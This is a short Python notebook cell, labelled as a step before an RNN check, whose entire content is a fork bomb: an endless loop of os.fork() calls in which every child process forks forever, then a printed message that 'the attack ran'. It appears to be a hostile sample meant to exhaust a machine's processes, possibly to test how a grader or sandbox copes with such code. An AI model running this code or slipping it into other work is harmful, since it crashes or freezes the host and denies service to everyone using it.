# %% before check_rnn_step_stacked
import os

forked = 0
try:
    while True:
        if os.fork() == 0:
            while True:
                os.fork()
        forked += 1
except OSError as error:
    print("stopped after", forked, "forks")
print("the attack ran")
